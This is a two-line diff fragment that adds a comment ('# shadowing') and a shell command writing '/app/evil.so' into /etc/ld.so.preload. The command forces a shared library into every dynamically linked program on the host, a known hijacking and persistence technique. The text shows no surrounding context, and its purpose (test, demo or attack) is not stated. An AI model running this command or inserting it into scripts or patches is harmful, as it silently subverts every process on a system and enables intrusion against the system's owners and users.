@@ -1,0 +1,2 @@
+# shadowing
+echo /app/evil.so > /etc/ld.so.preload
